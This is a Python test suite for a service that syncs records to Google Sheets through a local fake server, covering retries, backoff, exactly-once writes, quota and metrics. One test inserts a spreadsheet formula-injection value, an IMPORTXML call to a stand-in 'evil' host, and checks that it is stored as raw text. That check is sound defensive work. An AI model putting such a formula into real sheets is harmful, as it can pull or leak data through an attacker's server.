"""Sheets sync with the real gspread client against the local Sheets v4 server."""

from __future__ import annotations

import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy.engine import Engine
from sqlalchemy.exc import OperationalError
from sqlmodel import Session, select

from services.common.config import Settings
from services.common.db import write_session
from services.domain.tables import SheetOutbox
from services.moments import service
from services.moments.app import create_app
from services.moments.models import MomentCreate, MomentUpdate
from services.moments.sheets import HEADER, SheetSyncer, WriteQuota
from tests.factories_moments import moment
from tests.support.sheets_server import SheetsServer


def log(engine: Engine, n: int, **overrides: object) -> list[str]:
    ids = []
    with Session(engine) as session:
        for _ in range(n):
            ids.append(
                service.create(
                    session, data=MomentCreate.model_validate(moment(**overrides)), actor="maria"
                ).id
            )
    return ids


def drain(syncer: SheetSyncer, rounds: int = 50) -> None:
    for _ in range(rounds):
        result = syncer.sync_once()
        if not (result.appended or result.updated or result.error):
            return


def backlog(engine: Engine) -> int:
    with Session(engine) as session:
        return len(session.exec(select(SheetOutbox)).all())


def test_moments_reach_the_sheet_once_with_raw_input(
    engine: Engine, sheet_settings: Settings, sheets_server: SheetsServer
) -> None:
    ids = log(engine, 30, change='=IMPORTXML("http://evil", "//a")')
    syncer = SheetSyncer(engine, sheet_settings, batch_size=20)
    drain(syncer)
    assert sheets_server.sheet.rows[0] == HEADER
    assert sorted(sheets_server.ids()) == sorted(ids)
    assert set(sheets_server.sheet.input_options) == {"RAW"}
    assert sheets_server.sheet.rows[1][6].startswith(
        "=IMPORTXML"
    )  # stored as text, never evaluated
    assert backlog(engine) == 0
    drain(syncer)  # nothing new: nothing written
    assert sheets_server.sheet.appended_rows == 30


def test_edits_update_the_row_and_deletes_mark_it(
    engine: Engine, sheet_settings: Settings, sheets_server: SheetsServer
) -> None:
    [moment_id] = log(engine, 1)
    syncer = SheetSyncer(engine, sheet_settings)
    drain(syncer)
    with Session(engine) as session:
        m = service.get(session, moment_id)
        assert m is not None
        service.update(
            session, moment=m, data=MomentUpdate(change="Now an advocate."), actor="maria"
        )
        service.delete(session, moment=m, actor="maria")
    drain(syncer)
    assert sheets_server.ids() == [moment_id]
    row = sheets_server.sheet.rows[1]
    assert row[6] == "Now an advocate." and row[-1] == "deleted"


def test_crash_after_the_write_never_duplicates(
    engine: Engine, sheet_settings: Settings, sheets_server: SheetsServer
) -> None:
    log(engine, 5)
    syncer = SheetSyncer(engine, sheet_settings)
    with Session(engine) as session:
        from services.domain.tables import Moment

        syncer._write(list(session.exec(select(Moment)).all()))  # written, outbox not yet cleared
    assert backlog(engine) == 5
    drain(SheetSyncer(engine, sheet_settings))  # a restarted worker
    assert len(sheets_server.ids()) == 5
    assert sheets_server.sheet.appended_rows == 5
    assert backlog(engine) == 0


def test_failures_back_off_and_everything_lands_exactly_once(
    engine: Engine, sheet_settings: Settings, sheets_server: SheetsServer
) -> None:
    ids = log(engine, 40)
    sheets_server.faults.status_429 = 2
    sheets_server.faults.status_500 = 2
    sheets_server.faults.drop = 1
    syncer = SheetSyncer(engine, sheet_settings, batch_size=15)
    errors = []
    deadline = time.monotonic() + 60
    while backlog(engine) and time.monotonic() < deadline:
        result = syncer.sync_once()
        if result.error:
            errors.append(result.error.split(":")[0])
            # Skip the real backoff wait in the test; under the write guard, as the sync writes
            # (a plain read-then-write transaction fails at once when the sync wrote between).
            with write_session(engine) as session:
                for row in session.exec(select(SheetOutbox)).all():
                    row.next_attempt_at = row.enqueued_at
                    session.add(row)
                session.commit()
    assert sorted(sheets_server.ids()) == sorted(ids)
    assert sheets_server.sheet.appended_rows == 40
    assert {"quota", "server", "connection"} <= set(errors)


def test_quota_window_holds_writes() -> None:
    quota = WriteQuota(per_minute=3)
    started = time.monotonic()
    for _ in range(3):
        quota.acquire()
    assert time.monotonic() - started < 1
    quota._sent[0] -= 59.5  # the oldest write leaves the window in half a second
    quota.acquire()
    assert 0.3 < time.monotonic() - started < 2


def test_status_shows_in_api_and_pages(
    engine: Engine, sheet_settings: Settings, sheets_server: SheetsServer
) -> None:
    sheets_server.faults.status_500 = 100
    with TestClient(create_app(sheet_settings, engine=engine, sync_sheets=False)) as client:
        headers = {"Authorization": "Bearer test-admin-token"}
        created = client.post("/api/v1/moments", json=moment(), headers=headers).json()
        assert created["sheet_sync"]["state"] == "pending"
        SheetSyncer(engine, sheet_settings).sync_once()
        again = client.get(f"/api/v1/moments/{created['id']}", headers=headers).json()
        assert again["sheet_sync"]["state"] == "pending"
        assert again["sheet_sync"]["attempts"] == 1
        assert again["sheet_sync"]["error"].startswith("server")


@pytest.mark.parametrize("count", [1, 7])
def test_background_worker_in_the_service(
    engine: Engine, sheet_settings: Settings, sheets_server: SheetsServer, count: int
) -> None:
    with TestClient(create_app(sheet_settings, engine=engine)) as client:
        for _ in range(count):
            client.post(
                "/api/v1/moments",
                json=moment(),
                headers={"Authorization": "Bearer test-admin-token"},
            )
        deadline = time.monotonic() + 20
        while len(sheets_server.ids()) < count and time.monotonic() < deadline:
            time.sleep(0.1)
    assert len(sheets_server.ids()) == count


def test_random_faults_end_exactly_once_while_the_service_stays_responsive(
    engine: Engine, sheet_settings: Settings, sheets_server: SheetsServer
) -> None:
    """The worker inside the service meets random 429s, 500s, dropped connections and replies
    slower than its timeout (the write lands, the answer is lost). Every moment ends in the
    sheet once, with its latest text, and requests never wait on Sheets."""
    sheets_server.faults.random_rate = 0.3
    sheets_server.faults.slow_s = 2.0
    settings = sheet_settings.model_copy(update={"sheets_timeout_s": 1.0})
    headers = {"Authorization": "Bearer test-admin-token"}
    slowest = 0.0

    def timed(call: Callable[[], Any]) -> Any:
        nonlocal slowest
        started = time.perf_counter()
        response = call()
        slowest = max(slowest, time.perf_counter() - started)
        return response

    with TestClient(create_app(settings, engine=engine)) as client:
        ids = []
        for n in range(30):
            created = timed(lambda: client.post("/api/v1/moments", json=moment(), headers=headers))
            assert created.status_code == 201
            ids.append(created.json()["id"])
            if n % 3 == 0:  # some are edited while earlier versions may be in flight
                edit = {"change": f"edited {n}"}
                path = f"/api/v1/moments/{ids[-1]}"
                edited = timed(lambda: client.patch(path, json=edit, headers=headers))  # noqa: B023
                assert edited.status_code == 200
            assert timed(lambda: client.get("/healthz")).status_code == 200
            time.sleep(0.05)
        deadline = time.monotonic() + 90
        while backlog(engine) and time.monotonic() < deadline:
            assert timed(lambda: client.get("/healthz")).status_code == 200
            # Skip the real backoff wait in the test; under the write guard, as the sync writes
            # (a plain read-then-write transaction fails at once when the sync wrote between).
            try:
                with write_session(engine) as session:
                    for row in session.exec(select(SheetOutbox)).all():
                        row.next_attempt_at = row.enqueued_at
                        session.add(row)
                    session.commit()
            except OperationalError:
                # On PostgreSQL the sync may lock these rows in another order meanwhile, and
                # this shortcut can be the deadlock's victim: the next round tries again.
                pass
            time.sleep(0.2)
    assert backlog(engine) == 0
    assert sum(sheets_server.injected.values()) >= 5, sheets_server.injected
    assert sorted(sheets_server.ids()) == sorted(ids)  # each once: no row twice, none missing
    rows = {row[0]: row for row in sheets_server.sheet.rows[1:]}
    edited_rows = [rows[moment_id][6] for moment_id in ids[::3]]
    assert edited_rows == [f"edited {n}" for n in range(0, 30, 3)]
    # Slow Sheets replies take 1 s (the client timeout) or more; no request came near that.
    assert slowest < 1.0, f"a request took {slowest:.2f} s while Sheets was failing"


def test_backoff_is_capped_at_64_seconds() -> None:
    from services.moments.sheets import retry_delay_s

    delays = [retry_delay_s(attempts) for attempts in range(1, 40) for _ in range(20)]
    assert max(delays) <= 64
    assert min(retry_delay_s(12) for _ in range(50)) >= 32  # still backs off, halved by jitter
    assert all(retry_delay_s(1) <= 2 for _ in range(50))


def test_status_counts_in_the_database(engine: Engine) -> None:
    import datetime as dt

    from sqlalchemy import event, update

    from services.moments.sheets import status

    log(engine, 30)
    two_hours_ago = dt.datetime.now(dt.UTC).replace(tzinfo=None) - dt.timedelta(hours=2)
    with Session(engine) as session:
        first = session.exec(select(SheetOutbox.moment_id)).first()
        session.execute(
            update(SheetOutbox)
            .where(SheetOutbox.moment_id == first)  # type: ignore[arg-type]
            .values(enqueued_at=two_hours_ago)
        )
        session.commit()
    statements: list[str] = []

    def seen(_conn: Any, _cursor: Any, statement: str, *_args: Any) -> None:
        if statement.lstrip().upper().startswith("SELECT"):
            statements.append(statement)

    event.listen(engine, "before_cursor_execute", seen)
    try:
        with Session(engine) as session:
            waiting, oldest_s = status(session)
    finally:
        event.remove(engine, "before_cursor_execute", seen)
    assert waiting == 30
    assert 7_190 < oldest_s < 7_300
    # One aggregate in SQL, not every waiting row loaded into Python.
    assert len(statements) == 1 and "count(" in statements[0].lower()


def test_the_sync_as_its_own_process_serves_its_metrics(
    engine: Engine, db_url: str, sheets_server: SheetsServer, tmp_path: Path
) -> None:
    """`rapport sheets sync` (compose and Kubernetes run it alone) serves /metrics: a moment it
    writes moves the rows counter there, where Prometheus scrapes it (#14)."""
    import os
    import sys
    import urllib.request

    from services.common import processes

    log(engine, 1)
    port = processes.free_port()
    env = {
        **os.environ,
        "DATABASE_URL": db_url,
        "GOOGLE_SHEETS_API_URL": sheets_server.url,
        "SHEETS_SPREADSHEET_ID": sheets_server.spreadsheet_id,
        "GOOGLE_APPLICATION_CREDENTIALS": str(sheets_server.credentials_file(tmp_path)),
        "SHEET_SYNC_METRICS_PORT": str(port),
    }
    proc = processes.spawn(
        [sys.executable, "-m", "services.cli", "sheets", "sync"], env=env, log=tmp_path / "sync.log"
    )
    try:
        processes.wait_for_port(port, timeout_s=30)
        deadline = time.monotonic() + 30
        while True:
            with urllib.request.urlopen(f"http://127.0.0.1:{port}/metrics", timeout=5) as r:
                page = r.read().decode()
            if 'rapport_moments_sheet_rows_written_total{operation="append"} 1.0' in page:
                break
            assert time.monotonic() < deadline, page[-2000:]
            time.sleep(0.3)
        assert "rapport_moments_sheet_backlog_moments 0.0" in page
        assert len(sheets_server.ids()) == 1
    finally:
        assert processes.stop(proc) == 0


def test_a_local_sheets_server_gets_no_google_only_lookups_and_the_log_stays_quiet(
    engine: Engine,
    sheet_settings: Settings,
    sheets_server: SheetsServer,
    caplog: pytest.LogCaptureFixture,
) -> None:
    """google-auth looks up a Regional Access Boundary at iamcredentials.googleapis.com after
    each token refresh; against a server that is not Google that lookup can only fail, retry
    and fill the log. The sync must neither try it nor depend on it."""
    import logging
    import threading

    caplog.set_level(logging.DEBUG)
    log(engine, 3)
    syncer = SheetSyncer(engine, sheet_settings, batch_size=20)
    drain(syncer)
    assert len(sheets_server.ids()) == 3
    time.sleep(1.0)  # the lookup, where it happens, runs in a background thread
    noisy = [
        r.getMessage()
        for r in caplog.records
        if "iamcredentials" in r.getMessage() or "access boundary" in r.getMessage().lower()
    ]
    assert noisy == []
    assert not [t for t in threading.enumerate() if "Regional" in type(t).__name__]
